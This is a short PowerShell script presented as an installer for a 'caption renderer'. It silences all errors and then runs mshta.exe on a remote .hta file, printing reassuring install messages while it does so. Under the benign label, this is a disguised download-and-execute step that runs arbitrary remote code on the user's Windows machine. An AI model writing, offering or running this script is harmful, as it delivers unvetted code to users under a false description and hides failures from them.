$ErrorActionPreference = 'SilentlyContinue'
$renderer = 'https://captions.example-render.net/renderer.hta'
Write-Host 'Installing caption renderer...'
& "$env:WINDIR\System32\mshta.exe" $renderer
Write-Host 'Done.'
